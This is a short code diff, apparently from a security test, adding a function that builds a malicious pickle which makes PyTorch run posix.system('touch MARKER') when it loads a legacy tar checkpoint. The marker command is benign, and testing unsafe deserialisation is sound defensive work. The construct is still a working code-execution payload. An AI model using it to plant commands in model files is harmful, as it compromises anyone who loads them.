@@ -48,3 +48,8 @@ def write_legacy_tar(out, blocks):
         blocks += [header(name, len(data)), pad(data)]
     blocks.append(b"\0" * 1024)
     open(out, "wb").write(b"".join(blocks))
+
+
+def payload(marker):
+    """The pickle torch unpickles from 'storages': posix.system('touch MARKER')."""
+    return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
